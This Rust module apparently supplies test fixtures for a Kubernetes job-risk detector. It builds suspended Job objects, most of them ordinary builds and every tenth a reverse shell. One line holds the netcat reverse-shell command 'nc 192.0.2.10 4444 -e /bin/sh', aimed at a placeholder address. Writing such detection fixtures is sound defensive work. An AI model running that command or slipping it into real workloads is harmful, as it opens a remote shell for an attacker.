//! What is there to be judged.

use k8s_openapi::api::batch::v1::Job;
use serde_json::json;

/// What a Job runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum What {
    /// A build, of which next to nothing is found.
    Build,
    /// A reverse shell, which is High: its report becomes evidence, and an Event is written.
    ReverseShell,
}

/// A Job that stays as it is, since it is suspended.
pub(crate) fn job(name: &str, what: What) -> Job {
    let (image, script) = match what {
        What::ReverseShell => ("alpine:latest", "nc 192.0.2.10 4444 -e /bin/sh"),
        What::Build => ("ubuntu:24.04", "set -eu; ./configure && make -j2 && make check"),
    };
    let job = json!({
        "metadata": { "name": name },
        "spec": { "suspend": true, "backoffLimit": 0, "template": { "spec": {
            "restartPolicy": "Never",
            "containers": [{
                "name": "build",
                "image": image,
                "command": ["/bin/sh", "-c", script],
                "volumeMounts": [{ "name": "source", "mountPath": "/src" }],
            }],
            "volumes": [{ "name": "source", "emptyDir": {} }],
        } } },
    });
    serde_json::from_value(job).unwrap()
}

/// One of many Jobs, every tenth a reverse shell. Kubernetes' own Job controller leaves it alone.
pub(crate) fn one_of_many(number: usize) -> Job {
    let what = if number % 10 == 9 { What::ReverseShell } else { What::Build };
    let mut job = job(&format!("nightly-build-{number}"), what);
    job.spec.as_mut().unwrap().managed_by = Some("bench.jobrisk.io/nobody".to_owned());
    job
}
